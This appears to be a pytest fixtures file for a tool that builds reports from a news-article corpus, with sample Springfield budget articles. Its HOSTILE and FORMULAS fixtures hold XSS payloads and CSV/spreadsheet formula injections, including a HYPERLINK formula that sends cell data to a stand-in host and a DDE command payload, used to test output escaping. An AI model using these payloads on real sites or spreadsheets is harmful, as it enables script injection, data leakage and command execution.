"""Shared fixtures: the seed corpus, and small corpora the tests write themselves."""

from __future__ import annotations

import csv
import hashlib
import os
from pathlib import Path

import pytest

from helpers.paths import DEFAULT_CORPUS_DIR, NOTEBOOKS_DIR
from helpers.report import main as build_main

SEED_FILES = {
    "JTA": "000_d30445ea75725141.txt",
    "The Forward": "001_14dca963f3b2987e.txt",
    "Al Jazeera America": "002_5bac032dd11dfc2e.txt",
    "Al Jazeera English": "003_21caf42f95a01878.txt",
    "Washington Free Beacon": "004_db867419f4d342af.txt",
}


def tree_hashes(folder: Path) -> dict[str, str]:
    """Every file and symlink under ``folder`` (symlinked folders not followed): relative
    path -> sha256 of its bytes, or "-> target" for a link. Compare before and after to prove
    nothing in a folder changed."""
    out = {}
    for base, dirs, names in os.walk(folder):
        for name in dirs + names:
            path = Path(base) / name
            key = path.relative_to(folder).as_posix()
            if path.is_symlink():
                out[key] = "-> " + os.readlink(path)
            elif path.is_file():
                out[key] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def write_corpus(folder: Path, articles: list[dict], *, columns: list[str] | None = None) -> Path:
    """Write a corpus folder: one text file per article plus metadata.csv.

    Each dict needs ``file`` and ``text`` (str, or bytes written as is); every
    other key becomes a metadata column.
    """
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for given in articles:
        art = dict(given)
        text = art.pop("text", None)
        if text is not None:
            path = folder / art["file"]
            path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
        rows.append(art)
    columns = columns or list(dict.fromkeys(k for row in rows for k in row))
    with open(folder / "metadata.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)
    return folder


SMALL_ARTICLES = [
    dict(
        file="a.txt", outlet="Daily Alpha", date="2024-05-01", headline="Council approves new budget",
        text=(
            "Council approves new budget\n\nBy Jane Roe\n\n"
            "SPRINGFIELD (Reuters) - The city council approved a $2 million budget on Tuesday, "
            "Mayor Ann Lee said.\n\n"
            "\u201cThis is a good day for Springfield,\u201d Lee told reporters. \u201cWe kept our promise.\u201d\n\n"
            "Critics said the budget cut too deep into parks.\n\n"
            "Reporting by Jane Roe; Editing by Tom Poe\n"
        ),
    ),
    dict(
        file="b.txt", outlet="Beta News", date="2024-05-02", headline="",
        text=(
            "The Springfield budget passed after a long debate, officials said.\n"
            "\"We will review every line,\" said council member Raj Patel.\n"
            "The budget takes effect in July.\n"
        ),
    ),
    dict(
        file="c.txt", outlet="Beta News", date="2024-05-03", headline="Parks groups object",
        text=(
            "Parks groups object to Springfield cuts\n"
            "Groups that run the city's parks said on Friday the cuts would close two pools.\n"
            "\"We were not consulted,\" said Maria Gomez of the Parks Alliance.\n"
        ),
    ),
]


@pytest.fixture(scope="session")
def seed_dir() -> Path:
    return DEFAULT_CORPUS_DIR


@pytest.fixture
def small_corpus(tmp_path: Path) -> Path:
    return write_corpus(tmp_path / "small", SMALL_ARTICLES)


# One build of every notebook per test session, shared by the tests of all notebooks.
# REPORT_NOTEBOOKS=DIR builds only the notebooks in DIR (for working on one notebook).
NOTEBOOK_ARGS = ["--notebooks", os.environ.get("REPORT_NOTEBOOKS", str(NOTEBOOKS_DIR))]


@pytest.fixture(scope="session")
def seed_report(tmp_path_factory, seed_dir):
    out = tmp_path_factory.mktemp("seed") / "reports"
    assert build_main(["--corpus", str(seed_dir), "--out", str(out), *NOTEBOOK_ARGS]) == 0
    return out


HOSTILE = dict(
    file="evil.txt", outlet="Evil <b>Outlet</b>", date="2024-05-04", headline="<script>alert('h')</script>",
    text=(
        "<script>alert('x')</script>\n"
        "The council met again, officials said <img src=x onerror=alert(1)> on Friday.\n"
        "Costs rose by $5 to $x$ and **bold** claims </table> were made, the mayor said.\n"
        "\"<script>document.title='PWNED'</script> is not a plan,\" said Ana Ruiz of <i>Watchdog</i>.\n"
        "Residents wrote <iframe src=javascript:alert(2)></iframe> and [a link](javascript:alert(3)) online.\n"
        "A long line follows: " + "x" * 12000 + " and " + "word " * 3000 + "end.\n"
        "The mayor said the budget would pass next week, and residents agreed.\n"
    ),
)


FORMULAS = dict(  # cells a spreadsheet would run, in every column that reaches a CSV
    file="formula.txt", outlet='=HYPERLINK("http://leak.test/?"&A1,"Daily Formula")', date="2024-05-05",
    headline="@SUM(1+1)*cmd|' /C calc'!A0",
    text=(
        "-2+3 was the vote count on the budget, the mayor said on Friday.\n\n"
        "=1+1 is what the council wrote in its budget, officials said.\n\n"
        "\"+44 20 7946 0000 is the number to call,\" said @Ana Ruiz of the council.\n\n"
        "The budget would pass next week, and residents agreed with the mayor.\n"
    ),
)


@pytest.fixture(scope="session")
def written_report(tmp_path_factory):
    base = tmp_path_factory.mktemp("written")
    corpus = write_corpus(base / "corpus", [*SMALL_ARTICLES, HOSTILE, FORMULAS])
    out = base / "reports"
    assert build_main(["--corpus", str(corpus), "--out", str(out), "--no-code", *NOTEBOOK_ARGS]) == 0
    return corpus, out




@pytest.fixture(scope="session")
def browser():
    """One headless Chromium for every browser test (tests/test_browser.py says which and why;
    it skips when Chromium or Playwright is missing)."""
    from tests.test_browser import CHROMIUM, CHROMIUM_ARGS, sync_playwright

    with sync_playwright() as p:
        launched = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


# The edge corpora of tests/test_edge_corpora.py: two seed articles of one outlet (JTA).
ONE_OUTLET = [
    dict(file=name, outlet="JTA", date=date, text=(DEFAULT_CORPUS_DIR / name).read_text(encoding="utf-8"))
    for name, date in [(SEED_FILES["JTA"], "2014-04-03"), (SEED_FILES["Al Jazeera English"], "2014-03-31")]
]


@pytest.fixture(scope="session")
def one_article_report(tmp_path_factory):
    """The report of a one-article corpus (the JTA seed), built once for every test that reads it."""
    base = tmp_path_factory.mktemp("one-article")
    corpus = write_corpus(base / "corpus", ONE_OUTLET[:1])
    out = base / "reports"
    assert build_main(["--corpus", str(corpus), "--out", str(out), *NOTEBOOK_ARGS]) == 0
    return out
